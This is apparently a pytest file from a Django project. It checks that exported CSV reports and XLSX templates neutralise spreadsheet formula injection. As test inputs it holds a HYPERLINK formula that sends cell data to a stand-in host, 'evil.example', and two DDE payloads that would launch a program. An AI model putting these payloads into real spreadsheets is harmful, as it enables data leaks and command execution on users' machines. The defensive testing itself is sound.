"""Every CSV/XLSX the batches write back (the per-row report, the blank templates) is read back
as a spreadsheet program would: no cell can be taken for a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from medpause.batches import blank
from medpause.batches.selectors import report_lines
from medpause.common.spreadsheet import TRIGGERS
from tests.batches.conftest import csv_bytes

pytestmark = pytest.mark.django_db

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_the_report_neutralises_what_the_file_brought(beijing, day):
    data = csv_bytes([
        (HOSTILE_ID.replace('"', "'").replace(",", ";"), "resignation", day.isoformat(), ""),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "resignation", day.isoformat(), ""),
        ("-2+3+cmd|' /C calc'!A0", "resignation", day.isoformat(), ""),
    ])
    batch = beijing.run(data)
    assert batch.status == "failed"
    with translation.override("en"):
        text = "".join(report_lines(batch)).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 4
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(TRIGGERS)] == []
    assert {row[1][:2] for row in rows[1:]} == {"'=", "'@", "'-"}


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("kind", ["stop", "resume"])
def test_the_templates_hold_no_formula(beijing, language, kind):
    with translation.override(language):
        workbook = load_workbook(io.BytesIO(blank.template_xlsx(kind, "110000")))
        header = blank.template_csv(kind).decode("utf-8-sig")
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS))
    assert not any(cell.startswith(TRIGGERS) for cell in next(csv.reader(io.StringIO(header))))
